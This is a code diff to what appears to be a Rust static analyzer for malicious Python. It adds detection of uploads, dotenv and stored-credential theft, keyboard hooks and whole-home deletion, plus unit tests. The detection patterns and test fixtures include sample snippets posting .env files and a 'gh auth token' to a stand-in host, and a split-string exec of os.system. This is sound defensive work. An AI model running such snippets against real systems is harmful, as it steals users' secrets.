@@ -795,6 +795,22 @@ impl<'t> Py<'t> {
                         }
                     }
                 }
+                "for_statement" => {
+                    // for x in <iterable>: x stands for an item of the iterable.
+                    if let (Some(l), Some(r)) = (
+                        n.child_by_field_id(field!("left")),
+                        n.child_by_field_id(field!("right")),
+                    ) && kind(l) == "identifier"
+                    {
+                        let v = py
+                            .assigns
+                            .entry((cur_fid, text(l, src).to_string()))
+                            .or_default();
+                        if v.len() < 16 {
+                            v.push(r);
+                        }
+                    }
+                }
                 "as_pattern" => {
                     // with X as y / except E as e
                     if let Some(alias) = n.child_by_field_id(field!("alias")) {
@@ -1470,7 +1486,8 @@ impl<'t> Py<'t> {
                                 return None;
                             }
                         }
-                        return Some((out, true));
+                        // (Joining one piece builds nothing.)
+                        return Some((out, items.len() > 1));
                     }
                     _ => {}
                 }
@@ -1650,8 +1667,13 @@ impl<'t> Py<'t> {
                 Some(out)
             }
             "identifier" => {
-                let rhs = self.lookup(n, text(n, src))?;
-                if rhs.len() != 1 {
+                let name = text(n, src);
+                let rhs = self.lookup(n, name)?;
+                // A list grown at run time is not its literal.
+                let grown = [".append(", ".extend(", ".insert(", " +="]
+                    .iter()
+                    .any(|m| memfind(src, format!("{name}{m}").as_bytes()));
+                if rhs.len() != 1 || grown {
                     return None;
                 }
                 self.static_seq(rhs[0], depth + 1)
@@ -1883,12 +1905,20 @@ impl<'t> Py<'t> {
         if method == "get_credentials" || method == "get_frozen_credentials" {
             return HOST;
         }
+        // A command whose output is a stored credential (`gh auth token`, a keychain entry).
+        if is_command(&name)
+            && let Some(c) = self.args(n).first()
+            && patterns::is_secret_command(&self.cmd_text(*c, 0))
+        {
+            return STOLEN;
+        }
         if name == "open" || name == "io.open" || name == "codecs.open" {
             let sensitive = self.args(n).first().is_some_and(|p| {
                 let t = self.cmd_text(*p, 0);
-                patterns::string_rules(&t)
-                    .iter()
-                    .any(|(r, _)| r.starts_with("STEAL-"))
+                is_dotenv_path(&t)
+                    || patterns::string_rules(&t)
+                        .iter()
+                        .any(|(r, _)| r.starts_with("STEAL-"))
             });
             return if sensitive {
                 STOLEN | FILEREAD
@@ -2493,6 +2523,24 @@ impl<'t> Py<'t> {
                 Some(scope),
             );
             facts.network.push((fid, line, scope, snippet(snip)));
+            let sends = matches!(
+                last,
+                "post"
+                    | "put"
+                    | "patch"
+                    | "send"
+                    | "sendall"
+                    | "sendto"
+                    | "sendmail"
+                    | "send_message"
+            ) || args.iter().any(|a| {
+                kind(*a) == "keyword_argument"
+                    && a.child_by_field_id(field!("name"))
+                        .is_some_and(|k| matches!(text(k, src), "data" | "json" | "files" | "body"))
+            });
+            if sends {
+                facts.upload.push((fid, line, scope, snippet(snip)));
+            }
             let url = positional
                 .first()
                 .copied()
@@ -2544,7 +2592,12 @@ impl<'t> Py<'t> {
                 args.iter().take(16).copied().collect()
             };
             for a in sent_args {
-                o |= self.origin(a, 0);
+                // Credentials in headers or `auth=` authenticate the request; host data
+                // there is still sent.
+                let auth = kind(a) == "keyword_argument"
+                    && a.child_by_field_id(field!("name"))
+                        .is_some_and(|k| matches!(text(k, src), "headers" | "auth" | "cookies"));
+                o |= self.origin(a, 0) & if auth { HOST } else { u32::MAX };
             }
             // The whole environment or a credential store sent away has no benign reading,
             // so from a function body it weighs like the file's top level.
@@ -2682,6 +2735,12 @@ impl<'t> Py<'t> {
             }
             return;
         }
+        if is_key_capture(name) {
+            // Keystrokes have no benign reading once sent: weighs like the top level.
+            facts
+                .key_capture
+                .push((fid, line, scope.undiscounted(ctx.top), snippet(snip)));
+        }
         if is_spy(name) {
             push(
                 sink,
@@ -2714,6 +2773,17 @@ impl<'t> Py<'t> {
         ) && let Some(a) = positional.first()
         {
             let t = text(*a, src);
+            if name == "shutil.rmtree" && is_wipe_target(&self.path_text(*a, 0), t) {
+                push(
+                    sink,
+                    ctx,
+                    "FILE-WIPE",
+                    line,
+                    snip,
+                    format!("deletes a whole home folder or drive: {}", snippet(t)),
+                    Some(scope.undiscounted(ctx.top)),
+                );
+            }
             if t.contains("__file__") || t.contains("sys.argv[0]") {
                 push(
                     sink,
@@ -3073,6 +3143,39 @@ impl<'t> Py<'t> {
     }
 
     /// Best-effort text of a command or path argument; unknown parts become `{}`.
+    /// Text of a file-system path as far as known: like `cmd_text`, but `os.path.join`
+    /// joins all its parts (`cmd_text` keeps the first, which the command rules were
+    /// measured with).
+    fn path_text(&self, n: Node<'t>, depth: u32) -> String {
+        if depth > 8 {
+            return "{}".into();
+        }
+        match kind(n) {
+            "identifier" => match self.reaching(n, text(n, self.src)) {
+                Some(v) => self.path_text(v, depth + 1),
+                None => "{}".into(),
+            },
+            "call"
+                if n.child_by_field_id(field!("function"))
+                    .and_then(|f| self.canon(f, 0))
+                    .is_some_and(|c| {
+                        matches!(
+                            c.0.as_str(),
+                            "os.path.join" | "posixpath.join" | "ntpath.join"
+                        )
+                    }) =>
+            {
+                self.args(n)
+                    .iter()
+                    .filter(|a| kind(**a) != "keyword_argument")
+                    .map(|a| self.path_text(*a, depth + 1))
+                    .collect::<Vec<_>>()
+                    .join("/")
+            }
+            _ => self.cmd_text(n, depth),
+        }
+    }
+
     fn cmd_text(&self, n: Node<'t>, depth: u32) -> String {
         if depth > 8 {
             return "{}".into();
@@ -3152,6 +3255,7 @@ impl<'t> Py<'t> {
                                 .unwrap_or_default(),
                             _ => args
                                 .iter()
+                                .filter(|a| kind(*a) != "keyword_argument")
                                 .map(|a| self.cmd_text(*a, depth + 1))
                                 .collect::<Vec<_>>()
                                 .join("/"),
@@ -3410,10 +3514,44 @@ fn is_spy(n: &str) -> bool {
             | "pynput.keyboard.Listener"
             | "keyboard.on_press"
             | "keyboard.hook"
+            | "keyboard.on_release"
             | "mss.mss"
             | "pyscreenshot.grab"
             | "clipboard.paste"
     )
+}
+
+/// Whether a path opened is a dotenv file (`.env`, `prod.env`, a `**/.env` glob): the
+/// secrets of a project.
+fn is_dotenv_path(p: &str) -> bool {
+    let last = p.rsplit(['/', '\\']).next().unwrap_or(p).trim();
+    last == ".env" || last.len() > 4 && last.ends_with(".env") && !last.contains('{')
+}
+
+/// Whether the path a recursive delete is given (`resolved` as far as known, `raw` as
+/// written) is a whole home folder, a drive or the file system.
+fn is_wipe_target(resolved: &str, raw: &str) -> bool {
+    let r = resolved
+        .trim()
+        .trim_end_matches(['/', '\\', '*'])
+        .to_ascii_lowercase();
+    let raw = raw.to_ascii_lowercase();
+    match r.as_str() {
+        "" => !resolved.trim().is_empty() || raw.contains("home()"),
+        "~" | "$home" | "${home}" | "%userprofile%" => true,
+        "home" | "userprofile" => raw.contains("environ") || raw.contains("getenv"),
+        _ => r.len() == 2 && r.ends_with(':') && r.as_bytes()[0].is_ascii_alphabetic(),
+    }
+}
+
+/// Keyboard hooks and listeners (a subset of `is_spy`).
+fn is_key_capture(n: &str) -> bool {
+    matches!(
+        n,
+        "pynput.keyboard.Listener" | "keyboard.on_press" | "keyboard.on_release" | "keyboard.hook"
+    ) || n.ends_with("SetWindowsHookExA")
+        || n.ends_with("SetWindowsHookExW")
+        || n.ends_with("GetAsyncKeyState")
 }
 
 fn is_stego(n: &str) -> bool {
@@ -3593,6 +3731,39 @@ mod tests {
 
     fn rules(s: &Sink) -> Vec<&'static str> {
         s.findings.iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn dotenv_files_and_credential_commands_sent_are_stolen_data() {
+        let has = |src: &str| rules(&run(src)).contains(&"EXFIL-SEND-COLLECTED");
+        // Project secrets hunted with a glob (the loop variable is an item of the glob).
+        assert!(has(
+            "import glob, requests\nfor p in glob.glob('/home/**/.env', recursive=True):\n    requests.post('https://x.test/u', data=open(p).read())\n"
+        ));
+        assert!(!has(
+            "import glob, requests\nfor p in glob.glob('docs/*.md'):\n    requests.post('https://x.test/u', data=open(p).read())\n"
+        ));
+        // A CLI's stored token sent in a body is theft; in a header it authenticates.
+        assert!(has(
+            "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.post('https://x.test/t', data=t)\n"
+        ));
+        assert!(!has(
+            "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + t})\n"
+        ));
+    }
+
+    #[test]
+    fn a_list_grown_at_run_time_is_not_a_static_string() {
+        // pyzmq's setup.py: lines read from a file, joined and exec'd to get the version.
+        let src = "def v():\n    lines = ['from typing import *\\n']\n    for line in open('v.py'):\n        lines.append(line)\n    ns = {}\n    exec(''.join(lines), ns)\n";
+        assert!(
+            !rules(&run(src)).contains(&"PY-EXEC-DECODED"),
+            "{:?}",
+            rules(&run(src))
+        );
+        // Joining several pieces of a static list still builds a string.
+        let split = "exec(''.join(['impo', 'rt os; os.sys', 'tem(\\'id\\')']))\n";
+        assert!(rules(&run(split)).contains(&"PY-EXEC-DECODED"));
     }
 
     #[test]
